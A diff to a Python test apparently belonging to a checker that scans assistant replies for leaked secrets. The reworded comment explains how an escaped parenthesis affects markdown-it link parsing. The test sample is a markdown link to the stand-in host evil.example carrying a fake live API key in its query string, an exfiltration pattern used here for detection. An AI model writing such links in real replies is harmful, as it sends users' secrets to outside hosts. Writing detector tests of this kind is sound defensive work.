@@ -269,8 +269,9 @@ def test_escapes_in_what_the_fast_path_reads_are_left_to_the_pass(text: str) -> 
 
 
 def test_an_escaped_paren_in_a_destination_is_read_as_markdown_it_reads_it() -> None:
-    # markdown-it's href runs past the escaped `)`: to the data. Read up to the `)`,
-    # the destination would be kept, and the unit certified with the secret in it.
+    # markdown-it's href runs past the escaped `)`, to the data: the unit is left to
+    # the pass (`ESCAPES_TO_THE_PASS` shows the refusal; the bare URL reading, which
+    # runs past it too, would also refuse this one).
     reply = r"See [x](https://evil.example/a\)?k=sk-live-9f8e7d6c5b4a3f2e1d0c) here."
     result = same(reply, conversation=CONVERSATION)
     assert result.findings
